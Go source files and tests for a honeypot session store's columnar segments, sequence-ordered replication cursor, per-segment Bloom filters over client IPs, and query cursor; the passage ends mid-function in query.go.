			t.Fatalf("record %d differs:\n v2 %+v\n v3 %+v", i, a[i], b[i])
		}
	}
	// The v3 manifest must say so, and the file must carry HNSTORE3.
	man, _ := v3.snapshot()
	if len(man.Segments) == 0 {
		t.Fatal("no sealed segments")
	}
	for _, seg := range man.Segments {
		if seg.Codec != FormatV3 {
			t.Fatalf("segment %s: codec %q, want %q", seg.File, seg.Codec, FormatV3)
		}
		if seg.Blocks[0].DirLen <= 0 {
			t.Fatalf("segment %s: missing directory length", seg.File)
		}
	}
}

func TestColumnarRunQueryMatchesRowFormat(t *testing.T) {
	recs := make([]*session.Record, 0, 600)
	for i := 0; i < 600; i++ {
		recs = append(recs, mkRecord(i%2, i))
	}
	v2, v3 := openFmt(t, t.TempDir(), "v2"), openFmt(t, t.TempDir(), FormatV3)
	defer v2.Close()
	defer v3.Close()
	sealAll(t, v2, recs)
	sealAll(t, v3, recs)

	queries := []*Query{
		{Where: Cmp(FieldProto, CmpEq, StringValue(session.ProtoSSH)),
			Select: []Field{FieldIP, FieldStart}},
		{Where: Cmp(FieldKind, CmpEq, KindValue(session.CommandExec))},
		{Where: And(
			Cmp(FieldProto, CmpEq, StringValue(session.ProtoTelnet)),
			Cmp(FieldStart, CmpGe, TimeValue(time.Date(2021, 6, 1, 0, 0, 0, 0, time.UTC))))},
		{IP: recs[42].ClientIP},
		{Where: Not(Cmp(FieldProto, CmpEq, StringValue(session.ProtoSSH)))},
		{Time: Month(time.Date(2021, 5, 1, 0, 0, 0, 0, time.UTC)), Limit: 7},
	}
	for qi, q := range queries {
		collect := func(s *Store) []*session.Record {
			// Queries are stateless values; reuse is safe across stores.
			res, err := s.RunQuery(q)
			if err != nil {
				t.Fatalf("query %d: %v", qi, err)
			}
			defer res.Close()
			var out []*session.Record
			for res.Next() {
				out = append(out, res.Record())
			}
			if err := res.Err(); err != nil {
				t.Fatalf("query %d: %v", qi, err)
			}
			return out
		}
		// Full-record DeepEqual, not just IDs: the columnar path decodes
		// (and sidecar-prefills) field by field, and every byte of every
		// projected field must match the row reader's output.
		a, b := collect(v2), collect(v3)
		if len(a) != len(b) {
			t.Fatalf("query %d: v2 returned %d rows, v3 %d rows", qi, len(a), len(b))
		}
		for i := range a {
			if !reflect.DeepEqual(a[i], b[i]) {
				t.Fatalf("query %d row %d differs:\n v2 %+v\n v3 %+v", qi, i, a[i], b[i])
			}
		}
	}
}

// TestColumnarZonePruning: a narrow time slice of a multi-block month
// must skip blocks on the directory zone maps alone.
func TestColumnarZonePruning(t *testing.T) {
	recs := make([]*session.Record, 0, 2000)
	for i := 0; i < 2000; i++ {
		recs = append(recs, mkRecord(0, i))
	}
	s := openFmt(t, t.TempDir(), FormatV3)
	defer s.Close()
	sealAll(t, s, recs)

	// Records ascend in time; the last few land in the last block.
	from := recs[len(recs)-3].Start
	res, err := s.RunQuery(&Query{Where: Cmp(FieldStart, CmpGe, TimeValue(from))})
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	n := 0
	for res.Next() {
		n++
	}
	if err := res.Err(); err != nil {
		t.Fatal(err)
	}
	if n != 3 {
		t.Fatalf("got %d records, want 3", n)
	}
	st := res.Stats()
	if st.BlocksZonePruned == 0 {
		t.Fatalf("expected zone-pruned blocks, stats: %+v", st)
	}
	if st.BlocksRead >= int64(len(mustSegBlocks(s))) {
		t.Fatalf("read %d of %d blocks; pruning did nothing", st.BlocksRead, len(mustSegBlocks(s)))
	}
}

func mustSegBlocks(s *Store) []blockMeta {
	man, _ := s.snapshot()
	var out []blockMeta
	for _, seg := range man.Segments {
		out = append(out, seg.Blocks...)
	}
	return out
}

// TestColumnarProjectionSkipsStripes: a narrow projection must touch
// fewer stripe bytes than a full-record scan of the same store.
func TestColumnarProjectionSkipsStripes(t *testing.T) {
	recs := make([]*session.Record, 0, 1000)
	for i := 0; i < 1000; i++ {
		recs = append(recs, mkRecord(0, i))
	}
	s := openFmt(t, t.TempDir(), FormatV3)
	defer s.Close()
	sealAll(t, s, recs)

	run := func(sel []Field) PlanStats {
		res, err := s.RunQuery(&Query{Select: sel})
		if err != nil {
			t.Fatal(err)
		}
		defer res.Close()
		for res.Next() {
		}
		if err := res.Err(); err != nil {
			t.Fatal(err)
		}
		return res.Stats()
	}
	narrow := run([]Field{FieldIP, FieldStart})
	full := run(nil)
	if narrow.StripesRead == 0 || full.StripesRead == 0 {
		t.Fatalf("stripe stats missing: narrow %+v full %+v", narrow, full)
	}
	if narrow.StripeBytes >= full.StripeBytes {
		t.Fatalf("narrow projection read %d stripe bytes, full scan %d — no byte-level skipping",
			narrow.StripeBytes, full.StripeBytes)
	}
}

// TestColumnarRawOverflow: lines ShredJSON rejects (non-canonical key
// order) must round-trip through the raw stripe.
func TestColumnarRawOverflow(t *testing.T) {
	s := openFmt(t, t.TempDir(), FormatV3)
	defer s.Close()

	recs := make([]*session.Record, 6)
	lines := make([][]byte, 6)
	idxs := make([]int32, 6)
	for i := range recs {
		recs[i] = mkRecord(0, i)
		if i%2 == 1 {
			// Valid JSON for the same record, but not the canonical key
			// order — ShredJSON rejects it, the raw stripe carries it.
			lines[i] = []byte(fmt.Sprintf(`{"start":%q,"id":%d,"end":%q,"hp":"hp-1","client_ip":%q,"client_port":%d,"proto":%q}`,
				recs[i].Start.Format(time.RFC3339Nano), recs[i].ID,
				recs[i].End.Format(time.RFC3339Nano), recs[i].ClientIP,
				recs[i].ClientPort, recs[i].Protocol))
		} else {
			lines[i] = marshal(t, recs[i])
		}
		idxs[i] = int32(i)
	}
	meta, err := s.writeSegmentColumnar(segFileName(0), recs, lines, idxs, 0)
	if err != nil {
		t.Fatal(err)
	}
	s.mu.Lock()
	s.man.Segments = append(s.man.Segments, meta)
	s.man.NextSeq = 6
	s.mu.Unlock()

	got, err := s.Load(1)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(recs) {
		t.Fatalf("loaded %d records, want %d", len(got), len(recs))
	}
	for i := range recs {
		want := *recs[i]
		want.Logins, want.Commands, want.Downloads = nil, nil, nil
		want.StateChanged = false
		if i%2 == 0 {
			want = *recs[i]
		}
		if !reflect.DeepEqual(got[i], &want) {
			t.Fatalf("record %d:\n got %+v\nwant %+v", i, got[i], &want)
		}
	}
	// And a predicate scan must still see the raw rows (they are
	// unknown to the prefilter, exact in the cursor's re-check).
	res, err := s.RunQuery(&Query{Where: Cmp(FieldProto, CmpEq, StringValue(session.ProtoSSH))})
	if err != nil {
		t.Fatal(err)
	}
	defer res.Close()
	n := 0
	for res.Next() {
		n++
	}
	want := 0
	for _, r := range recs {
		if r.Protocol == session.ProtoSSH {
			want++
		}
	}
	if n != want {
		t.Fatalf("predicate over mixed shredded/raw rows: got %d, want %d", n, want)
	}
}

// TestScanPoolBalanced: every scan path — full scans, LIMIT early
// exits, mid-stream Close — must return its pooled block scratch.
func TestScanPoolBalanced(t *testing.T) {
	for _, format := range []string{"v2", FormatV3} {
		t.Run(format, func(t *testing.T) {
			recs := make([]*session.Record, 0, 800)
			for i := 0; i < 800; i++ {
				recs = append(recs, mkRecord(i%2, i))
			}
			s := openFmt(t, t.TempDir(), format)
			defer s.Close()
			sealAll(t, s, recs)

			g0, p0 := PoolCounters()

			// Full scan to exhaustion, no explicit Close.
			res, err := s.RunQuery(&Query{})
			if err != nil {
				t.Fatal(err)
			}
			for res.Next() {
			}
			res.Close()

			// LIMIT early exit: the cursor must close itself at the limit.
			res, err = s.RunQuery(&Query{Limit: 3})
			if err != nil {
				t.Fatal(err)
			}
			for res.Next() {
			}

			// Mid-stream abandon with explicit Close.
			res, err = s.RunQuery(&Query{})
			if err != nil {
				t.Fatal(err)
			}
			res.Next()
			res.Close()

			g1, p1 := PoolCounters()
			if gets, puts := g1-g0, p1-p0; gets != puts {
				t.Fatalf("pool imbalance: %d gets, %d puts", gets, puts)
			} else if gets == 0 {
				t.Fatal("no pool traffic recorded; counters not wired")
			}
		})
	}
}

// TestShimScanCounters: the deprecated Scan/ScanIP shims must feed the
// store's query counters like RunQuery does.
func TestShimScanCounters(t *testing.T) {
	recs := make([]*session.Record, 0, 100)
	for i := 0; i < 100; i++ {
		recs = append(recs, mkRecord(0, i))
	}
	s := openFmt(t, t.TempDir(), "")
	defer s.Close()
	sealAll(t, s, recs)

	before := s.queriesTotal.Load()
	cur := s.Scan(TimeRange{}, nil)
	for cur.Next() {
	}
	cur.Close()
	ipCur := s.ScanIP("198.51.100.9", TimeRange{})
	for ipCur.Next() {
	}
	ipCur.Close()
	if got := s.queriesTotal.Load() - before; got != 2 {
		t.Fatalf("queriesTotal rose by %d, want 2", got)
	}
	// The Bloom-pruned ScanIP should show up as pruned segments too.
	if s.querySegsPruned.Load() == 0 {
		t.Fatal("ScanIP pruning not reflected in querySegsPruned")
	}
}
