package store

import (
	"fmt"
	"io"

	"honeynet/internal/session"
)

// This file is the store's replication surface: fleet mode tails a
// node's local store in exact global append order, using the WAL
// sequence as the replication cursor. ScanSeq streams (seq, canonical
// JSON line) pairs from any starting sequence — sealed segments are
// merged by sequence (segments from one seal interleave, one per
// month), then the unsealed tail follows — so a forwarder can resume
// from an acknowledged cursor without materializing anything.

// NextSeq returns the sequence the next appended record will get: the
// total number of records ever appended (sealed + unsealed). Sequences
// are dense, starting at zero.
func (s *Store) NextSeq() uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.man.NextSeq + uint64(len(s.tail))
}

// Watch returns a signal channel that receives (capacity one,
// non-blocking send) after every append. A tailer that drains the
// channel and then re-checks NextSeq never misses progress; coalesced
// signals are expected.
func (s *Store) Watch() <-chan struct{} {
	return s.watch
}

// segStream is one open segment inside a sequence merge, holding its
// current head entry.
type segStream struct {
	br   segReader
	seq  uint64
	line []byte
}

// SeqCursor streams a snapshot of the store in global append order,
// starting at a given sequence. Line returns the record's canonical
// JSON, valid until the next call to Next. A SeqCursor is not safe for
// concurrent use.
type SeqCursor struct {
	s       *Store
	pending []*segmentMeta // unopened segments, sorted by MinSeq ascending
	heap    []*segStream   // open segments, min-heap on head seq
	last    *segStream     // stream whose head was returned by the last Next
	tail    []*session.Record
	lines   [][]byte // canonical lines for tail (may be shorter: ReadOnly opens)
	base    uint64   // seq of tail[0]
	ti      int
	from    uint64
	seq     uint64
	line    []byte
	scratch []byte // lazily marshaled tail lines
	err     error
}

// ScanSeq returns a cursor over every record with sequence >= from, in
// sequence order, from a consistent snapshot. Records appended after
// the call are not included; re-scan from the last returned sequence
// plus one to continue (see Watch).
func (s *Store) ScanSeq(from uint64) *SeqCursor {
	s.mu.RLock()
	man := s.man
	tail := s.tail[:len(s.tail):len(s.tail)]
	lines := s.tailLines[:len(s.tailLines):len(s.tailLines)]
	s.mu.RUnlock()

	c := &SeqCursor{s: s, tail: tail, lines: lines, base: man.NextSeq, from: from}
	for _, seg := range man.Segments {
		if seg.MaxSeq >= from {
			c.pending = append(c.pending, seg)
		}
	}
	// Manifest order is seal order; within it MinSeq ascends per month
	// partition, but be explicit: the merge below depends on it.
	sortSegsByMinSeq(c.pending)
	if from > man.NextSeq {
		c.ti = int(from - man.NextSeq)
	}
	return c
}

func sortSegsByMinSeq(segs []*segmentMeta) {
	for i := 1; i < len(segs); i++ {
		for j := i; j > 0 && segs[j].MinSeq < segs[j-1].MinSeq; j-- {
			segs[j], segs[j-1] = segs[j-1], segs[j]
		}
	}
}

// Next advances to the next record. It returns false at the end of the
// snapshot or on error (see Err).
func (c *SeqCursor) Next() bool {
	if c.err != nil {
		return false
	}
	// Advance the stream whose head the previous Next returned — only
	// now: the reader's line buffer stays valid until this read.
	if st := c.last; st != nil {
		c.last = nil
		if !c.advanceStream(st) {
			return false
		}
	}
	// Open every pending segment that could hold the next sequence: all
	// of them while the heap is empty, otherwise those whose MinSeq
	// precedes the current heap minimum.
	for len(c.pending) > 0 && (len(c.heap) == 0 || c.pending[0].MinSeq <= c.heap[0].seq) {
		if !c.openStream(c.pending[0]) {
			return false
		}
		c.pending = c.pending[1:]
	}
	if len(c.heap) > 0 {
		st := c.heap[0]
		c.seq, c.line = st.seq, st.line
		c.last = st
		return true
	}
	// Segments exhausted: the unsealed tail follows.
	if c.ti < len(c.tail) {
		c.seq = c.base + uint64(c.ti)
		if c.ti < len(c.lines) && c.lines[c.ti] != nil {
			c.line = c.lines[c.ti]
		} else {
			// ReadOnly opens keep no canonical lines; marshal on demand.
			line, err := session.AppendJSON(c.scratch[:0], c.tail[c.ti])
			if err != nil {
				c.err = fmt.Errorf("store: marshal tail record: %w", err)
				return false
			}
			c.scratch = line
			c.line = line
		}
		c.ti++
		return true
	}
	return false
}

// openStream opens seg, skips entries below the cursor's start, and
// pushes the stream onto the heap (unless empty).
func (c *SeqCursor) openStream(seg *segmentMeta) bool {
	br, err := c.s.openSegment(seg)
	if err != nil {
		c.err = err
		return false
	}
	st := &segStream{br: br}
	for {
		seq, line, err := br.next()
		if err == io.EOF {
			br.close()
			return true
		}
		if err != nil {
			br.close()
			c.err = err
			return false
		}
		if seq >= c.from {
			st.seq, st.line = seq, line
			break
		}
	}
	c.heap = append(c.heap, st)
	c.siftUp(len(c.heap) - 1)
	return true
}

// advanceStream replaces the heap minimum's head with its next entry,
// or removes the stream at EOF.
func (c *SeqCursor) advanceStream(st *segStream) bool {
	seq, line, err := st.br.next()
	if err == io.EOF {
		if cerr := st.br.close(); cerr != nil {
			c.err = cerr
			return false
		}
		last := len(c.heap) - 1
		c.heap[0] = c.heap[last]
		c.heap = c.heap[:last]
	} else if err != nil {
		c.err = err
		return false
	} else {
		st.seq, st.line = seq, line
	}
	if len(c.heap) > 0 {
		c.siftDown(0)
	}
	return true
}

func (c *SeqCursor) siftUp(i int) {
	for i > 0 {
		p := (i - 1) / 2
		if c.heap[p].seq <= c.heap[i].seq {
			return
		}
		c.heap[p], c.heap[i] = c.heap[i], c.heap[p]
		i = p
	}
}

func (c *SeqCursor) siftDown(i int) {
	for {
		l, r, min := 2*i+1, 2*i+2, i
		if l < len(c.heap) && c.heap[l].seq < c.heap[min].seq {
			min = l
		}
		if r < len(c.heap) && c.heap[r].seq < c.heap[min].seq {
			min = r
		}
		if min == i {
			return
		}
		c.heap[i], c.heap[min] = c.heap[min], c.heap[i]
		i = min
	}
}

// Seq returns the sequence of the record Next advanced to.
func (c *SeqCursor) Seq() uint64 { return c.seq }

// Line returns the record's canonical JSON (no trailing newline). The
// bytes are valid until the next call to Next.
func (c *SeqCursor) Line() []byte { return c.line }

// Err returns the first error the scan hit, if any.
func (c *SeqCursor) Err() error { return c.err }

// Close releases any open segments. Safe at any point.
func (c *SeqCursor) Close() error {
	var err error
	for _, st := range c.heap {
		if cerr := st.br.close(); err == nil {
			err = cerr
		}
	}
	c.heap = nil
	c.pending = nil
	return err
}
