package store

// A hand-rolled Bloom filter over client IPs, one per sealed segment:
// campaign queries (ScanIP) skip every segment whose filter excludes the
// address, which turns a "find the mdrfckr IPs" pass over years of data
// into a read of only the months the campaign touched. Stdlib only —
// FNV-1a double hashing, Kirsch-Mitzenmacher style.

// bloomBitsPerKey sizes the filter at ~10 bits per element (≈1% false
// positives with bloomHashes probes).
const (
	bloomBitsPerKey = 10
	bloomHashes     = 7
)

// Bloom is a fixed-size Bloom filter. It marshals as JSON inside the
// manifest (Bits is base64-encoded by encoding/json).
//
// V records the probe scheme. Version 0 (the original) derives probes
// straight from the FNV hashes modulo an arbitrary M. Version 1 sizes M
// as a power of two and finalizes the hashes with a mixing step first:
// reducing raw FNV-1a modulo 2^k keeps only its low bits, which evolve
// independently of the high ones and collide structurally. Old filters
// keep reading with the scheme they were written under.
type Bloom struct {
	M    uint64 `json:"m"` // filter size in bits
	K    int    `json:"k"` // hash probes per key
	V    int    `json:"v,omitempty"`
	Bits []byte `json:"bits"`
}

// newBloom returns a filter sized for n expected keys, rounded up to a
// power of two bits so probes reduce with a mask instead of a division.
func newBloom(n int) *Bloom {
	bits := uint64(n) * bloomBitsPerKey
	pow := uint64(64)
	for pow < bits {
		pow <<= 1
	}
	return &Bloom{M: pow, K: bloomHashes, V: 1, Bits: make([]byte, pow/8)}
}

// fnvHashes returns the two independent 64-bit hashes double hashing
// derives every probe from: h1 is FNV-1a over s, h2 continues the same
// state over a salt byte (forced odd so probe strides cover the filter).
func fnvHashes(s string) (h1, h2 uint64) {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime64
	}
	h1 = h
	h ^= 0xff
	h *= prime64
	return h1, h | 1
}

// mix64 is a 64-bit finalizer (the murmur3/splitmix constant pair):
// every input bit avalanches across the word, so the low bits a
// power-of-two reduction keeps see the whole hash.
func mix64(x uint64) uint64 {
	x ^= x >> 33
	x *= 0xff51afd7ed558ccd
	x ^= x >> 33
	x *= 0xc4ceb9fe1a85ec53
	x ^= x >> 33
	return x
}

// bases maps the raw FNV pair to this filter's probe bases, per its
// version.
func (b *Bloom) bases(h1, h2 uint64) (uint64, uint64) {
	if b.V >= 1 {
		return mix64(h1), mix64(h2) | 1
	}
	return h1, h2
}

// idx reduces a probe to a bit index.
func (b *Bloom) idx(probe uint64) uint64 {
	if b.M&(b.M-1) == 0 {
		return probe & (b.M - 1)
	}
	return probe % b.M
}

// Add inserts key into the filter.
func (b *Bloom) Add(key string) {
	h1, h2 := b.bases(fnvHashes(key))
	if b.M&(b.M-1) == 0 {
		mask := b.M - 1
		for i := 0; i < b.K; i++ {
			bit := (h1 + uint64(i)*h2) & mask
			b.Bits[bit/8] |= 1 << (bit % 8)
		}
		return
	}
	for i := 0; i < b.K; i++ {
		bit := (h1 + uint64(i)*h2) % b.M
		b.Bits[bit/8] |= 1 << (bit % 8)
	}
}

// MayContain reports whether key may have been added. False means
// definitely absent; true may be a false positive.
func (b *Bloom) MayContain(key string) bool {
	if b == nil || b.M == 0 {
		return true // no filter: cannot prune
	}
	h1, h2 := fnvHashes(key)
	return b.mayContainHashes(h1, h2)
}

// mayContainHashes is MayContain with the key already FNV-hashed —
// scans probing many filters for one IP hash it once and reuse the
// pair.
func (b *Bloom) mayContainHashes(h1, h2 uint64) bool {
	if b == nil || b.M == 0 {
		return true
	}
	h1, h2 = b.bases(h1, h2)
	if b.M&(b.M-1) == 0 {
		mask := b.M - 1
		for i := 0; i < b.K; i++ {
			bit := (h1 + uint64(i)*h2) & mask
			if b.Bits[bit/8]&(1<<(bit%8)) == 0 {
				return false
			}
		}
		return true
	}
	for i := 0; i < b.K; i++ {
		bit := (h1 + uint64(i)*h2) % b.M
		if b.Bits[bit/8]&(1<<(bit%8)) == 0 {
			return false
		}
	}
	return true
}

// firstProbe tests only probe 0 — the cheapest rejection. Batch pruning
// sweeps this over a run of filters first, then pays the full K probes
// only for the survivors.
func (b *Bloom) firstProbe(h1, h2 uint64) bool {
	if b == nil || b.M == 0 {
		return true
	}
	p1, _ := b.bases(h1, h2)
	bit := b.idx(p1)
	return b.Bits[bit/8]&(1<<(bit%8)) != 0
}

// bloomBatch is how many segment filters one pruning round sweeps with
// the cheap first probe before finishing the survivors.
const bloomBatch = 8

// bloomPrune probes a run of segment filters for one already-hashed IP
// and returns, per segment, whether it may contain the address. It
// works bloomBatch filters at a time: a first-probe sweep (one bit test
// per filter, no per-probe dependency chain) rejects most segments the
// IP never touched; only survivors get the full probe sequence.
func bloomPrune(segs []*segmentMeta, h1, h2 uint64, keep []bool) []bool {
	keep = keep[:0]
	for i := 0; i < len(segs); i += bloomBatch {
		end := i + bloomBatch
		if end > len(segs) {
			end = len(segs)
		}
		var first [bloomBatch]bool
		for j := i; j < end; j++ {
			first[j-i] = segs[j].Bloom.firstProbe(h1, h2)
		}
		for j := i; j < end; j++ {
			keep = append(keep, first[j-i] && segs[j].Bloom.mayContainHashes(h1, h2))
		}
	}
	return keep
}
