package store

// A hand-rolled Bloom filter over client IPs, one per sealed segment:
// campaign queries (ScanIP) skip every segment whose filter excludes the
// address, which turns a "find the mdrfckr IPs" pass over years of data
// into a read of only the months the campaign touched. Stdlib only —
// FNV-1a double hashing, Kirsch-Mitzenmacher style.

// bloomBitsPerKey sizes the filter at ~10 bits per element (≈1% false
// positives with bloomHashes probes).
const (
	bloomBitsPerKey = 10
	bloomHashes     = 7
)

// Bloom is a fixed-size Bloom filter. It marshals as JSON inside the
// manifest (Bits is base64-encoded by encoding/json).
type Bloom struct {
	M    uint64 `json:"m"` // filter size in bits
	K    int    `json:"k"` // hash probes per key
	Bits []byte `json:"bits"`
}

// newBloom returns a filter sized for n expected keys.
func newBloom(n int) *Bloom {
	bits := uint64(n) * bloomBitsPerKey
	if bits < 64 {
		bits = 64
	}
	bits = (bits + 63) &^ 63
	return &Bloom{M: bits, K: bloomHashes, Bits: make([]byte, bits/8)}
}

// fnvHashes returns the two independent 64-bit hashes double hashing
// derives every probe from: h1 is FNV-1a over s, h2 continues the same
// state over a salt byte (forced odd so probe strides cover the filter).
func fnvHashes(s string) (h1, h2 uint64) {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime64
	}
	h1 = h
	h ^= 0xff
	h *= prime64
	return h1, h | 1
}

// Add inserts key into the filter.
func (b *Bloom) Add(key string) {
	h1, h2 := fnvHashes(key)
	for i := 0; i < b.K; i++ {
		bit := (h1 + uint64(i)*h2) % b.M
		b.Bits[bit/8] |= 1 << (bit % 8)
	}
}

// MayContain reports whether key may have been added. False means
// definitely absent; true may be a false positive.
func (b *Bloom) MayContain(key string) bool {
	if b == nil || b.M == 0 {
		return true // no filter: cannot prune
	}
	h1, h2 := fnvHashes(key)
	for i := 0; i < b.K; i++ {
		bit := (h1 + uint64(i)*h2) % b.M
		if b.Bits[bit/8]&(1<<(bit%8)) == 0 {
			return false
		}
	}
	return true
}
