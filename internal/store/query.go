package store

import (
	"fmt"
	"io"
	"sort"
	"time"

	"honeynet/internal/collector"
	"honeynet/internal/parallel"
	"honeynet/internal/session"
)

// TimeRange selects records whose Start falls in [From, To). A zero
// bound is open.
type TimeRange struct {
	From, To time.Time
}

// Month returns the range covering exactly one partition month.
func Month(m time.Time) TimeRange {
	from := time.Date(m.Year(), m.Month(), 1, 0, 0, 0, 0, time.UTC)
	return TimeRange{From: from, To: from.AddDate(0, 1, 0)}
}

// contains reports whether t falls in the range.
func (tr TimeRange) contains(t time.Time) bool {
	if !tr.From.IsZero() && t.Before(tr.From) {
		return false
	}
	if !tr.To.IsZero() && !t.Before(tr.To) {
		return false
	}
	return true
}

// Filter selects records during a scan. A nil Filter selects all.
type Filter func(*session.Record) bool

// part is one unit of cursor iteration: either a sealed segment or a
// month's slice of the unsealed tail.
type part struct {
	seg  *segmentMeta
	tail []*session.Record
}

// Cursor streams records from a snapshot of the store without
// materializing the dataset: months ascend, and within a month records
// come in append order (sealed segments first, then the unsealed
// tail). Peak memory is bounded by one compressed block plus its
// uncompressed payload. A Cursor is not safe for concurrent use.
type Cursor struct {
	s      *Store
	parts  []part
	pi     int
	br     segReader  // open v1/v2 segment, if any
	cc     *colCursor // open v3 segment, if any
	ti     int
	tr     TimeRange
	filter Filter
	ip     string            // non-empty for ScanIP: exact client-IP match
	mask   session.FieldMask // projection: fields to decode (0 = all)
	pred   *Pred             // pushed predicate: prefilter only, Next re-checks
	prog   *vecProg          // compiled vectorized prefilter (lazy)
	progOK bool
	stats  *PlanStats // per-query plan stats; may be nil
	note   func()     // deprecated-shim hook: fold stats into counters once
	cur    *session.Record
	err    error
	dec    session.JSONDecoder
	arena  recArena
}

// recArena bump-allocates records in chunks, so decoding a block of
// sessions costs one allocation per chunk instead of one per record.
type recArena struct {
	chunk []session.Record
}

const recArenaChunk = 128

func (a *recArena) alloc() *session.Record {
	if len(a.chunk) == 0 {
		a.chunk = make([]session.Record, recArenaChunk)
	}
	r := &a.chunk[0]
	a.chunk = a.chunk[1:]
	return r
}

// Scan returns a cursor over records in tr satisfying filter.
//
// Deprecated: build a Query and use RunQuery, which adds predicate,
// projection, and metadata pushdown. Scan remains as a thin shim; its
// plan stats feed the same honeynet_query_* counters RunQuery reports.
func (s *Store) Scan(tr TimeRange, filter Filter) *Cursor {
	return s.shimScan(tr, filter, "")
}

// ScanIP returns a cursor over records from one client IP, using the
// per-segment Bloom filters to skip months the address never touched.
//
// Deprecated: use RunQuery with Query.IP (or an `ip =` predicate,
// which routes through the same Bloom probes). ScanIP remains as a
// thin shim; its plan stats feed the honeynet_query_* counters.
func (s *Store) ScanIP(ip string, tr TimeRange) *Cursor {
	return s.shimScan(tr, nil, ip)
}

// shimScan backs the deprecated Scan/ScanIP entry points: a full scan
// with private plan stats that fold into the store's query counters
// when the cursor finishes (exhaustion or Close), so shim traffic shows
// up beside RunQuery's in the metrics.
func (s *Store) shimScan(tr TimeRange, filter Filter, ip string) *Cursor {
	stats := &PlanStats{}
	c := s.scanQ(tr, filter, ip, session.FAllFields, nil, stats)
	c.note = func() { s.noteQuery(stats) }
	return c
}

// scanQ builds the streaming cursor every query path shares: month and
// segment time-bound pruning, Bloom routing for exact-IP scans, a
// decoder field mask for projection pushdown, an optional pushed
// predicate (vectorized prefilter over v3 segments — Next re-checks, so
// it is advisory), and optional plan-stat accounting.
func (s *Store) scanQ(tr TimeRange, filter Filter, ip string, mask session.FieldMask, pred *Pred, stats *PlanStats) *Cursor {
	man, tail := s.snapshot()
	if stats != nil {
		stats.Segments += len(man.Segments)
	}

	// Bucket tail records by month, preserving append order within.
	tailByMonth := map[time.Time][]*session.Record{}
	segsByMonth := map[time.Time][]*segmentMeta{}
	var months []time.Time
	seen := map[time.Time]bool{}
	for _, seg := range man.Segments {
		m := seg.month()
		if !seen[m] {
			seen[m] = true
			months = append(months, m)
		}
		segsByMonth[m] = append(segsByMonth[m], seg)
	}
	for _, r := range tail {
		m := r.Month()
		if !seen[m] {
			seen[m] = true
			months = append(months, m)
		}
		tailByMonth[m] = append(tailByMonth[m], r)
	}
	sort.Slice(months, func(i, j int) bool { return months[i].Before(months[j]) })

	// For IP scans, hash the address once and batch-probe each month's
	// filters: a cheap first-probe sweep rejects most segments before
	// the full probe sequence runs.
	var h1, h2 uint64
	if ip != "" {
		h1, h2 = fnvHashes(ip)
	}
	var cand []*segmentMeta
	var keep []bool
	c := &Cursor{s: s, tr: tr, filter: filter, ip: ip, mask: mask, pred: pred, stats: stats}
	for _, m := range months {
		if !monthOverlaps(m, tr) {
			if stats != nil {
				stats.TimePruned += len(segsByMonth[m])
			}
			continue
		}
		cand = cand[:0]
		for _, seg := range segsByMonth[m] {
			if seg.overlaps(tr.From, tr.To) {
				cand = append(cand, seg)
			} else if stats != nil {
				stats.TimePruned++
			}
		}
		if ip != "" && len(cand) > 0 {
			keep = bloomPrune(cand, h1, h2, keep)
			s.bloomChecks.Add(int64(len(cand)))
			if stats != nil {
				stats.BloomChecked += len(cand)
			}
			for i, seg := range cand {
				if keep[i] {
					c.parts = append(c.parts, part{seg: seg})
				} else {
					s.bloomSkips.Add(1)
					if stats != nil {
						stats.BloomPruned++
						stats.BlocksSkipped += int64(len(seg.Blocks))
					}
				}
			}
		} else {
			for _, seg := range cand {
				c.parts = append(c.parts, part{seg: seg})
			}
		}
		if t := tailByMonth[m]; len(t) > 0 {
			c.parts = append(c.parts, part{tail: t})
		}
	}
	if stats != nil {
		for _, p := range c.parts {
			if p.seg != nil {
				stats.ScannedSegments++
			}
		}
	}
	return c
}

// monthOverlaps reports whether the partition month [m, m+1mo)
// intersects the range.
func monthOverlaps(m time.Time, tr TimeRange) bool {
	if !tr.To.IsZero() && !m.Before(tr.To) {
		return false
	}
	if !tr.From.IsZero() && !tr.From.Before(m.AddDate(0, 1, 0)) {
		return false
	}
	return true
}

// Next advances to the next matching record. It returns false at the
// end of the scan or on error (see Err).
func (c *Cursor) Next() bool {
	if c.err != nil {
		return false
	}
	for {
		r, err := c.nextRaw()
		if err != nil {
			if err != io.EOF {
				c.err = err
			}
			c.cur = nil
			// Release pooled scratch on every terminal path, error
			// included — leaving it to an optional Close would leak the
			// buffers out of the pool.
			c.Close()
			return false
		}
		if !c.tr.contains(r.Start) {
			continue
		}
		if c.ip != "" && r.ClientIP != c.ip {
			continue
		}
		if c.filter != nil && !c.filter(r) {
			continue
		}
		if c.stats != nil {
			c.stats.MatchedRecords++
		}
		c.cur = r
		return true
	}
}

// nextRaw yields the next record across parts, or io.EOF.
func (c *Cursor) nextRaw() (*session.Record, error) {
	for c.pi < len(c.parts) {
		p := &c.parts[c.pi]
		if p.seg != nil && p.seg.Codec == FormatV3 {
			// Columnar segment: the vectorized cursor prunes blocks on
			// zone maps, prefilters rows column-at-a-time, and decodes
			// only the projected columns of the selected rows.
			if c.cc == nil {
				if !c.progOK {
					c.prog = compileVec(c.pred, c.ip, c.tr)
					c.progOK = true
				}
				cc, err := c.s.openColCursor(p.seg, c.prog, c.mask, c.stats, &c.dec, &c.arena)
				if err != nil {
					return nil, err
				}
				c.cc = cc
			}
			r, err := c.cc.next()
			if err == io.EOF {
				c.cc.close()
				c.cc = nil
				c.pi++
				continue
			}
			if err != nil {
				return nil, err
			}
			return r, nil
		}
		if p.seg != nil {
			if c.br == nil {
				br, err := c.s.openSegment(p.seg)
				if err != nil {
					return nil, err
				}
				br.setStats(c.stats)
				c.br = br
			}
			_, line, err := c.br.next()
			if err == io.EOF {
				c.br.close()
				c.br = nil
				c.pi++
				continue
			}
			if err != nil {
				return nil, err
			}
			r := c.arena.alloc()
			if err := c.dec.DecodeMasked(line, r, c.mask); err != nil {
				return nil, fmt.Errorf("store: decoding record: %w", err)
			}
			if c.stats != nil {
				c.stats.ScannedRecords++
			}
			return r, nil
		}
		if c.ti < len(p.tail) {
			r := p.tail[c.ti]
			c.ti++
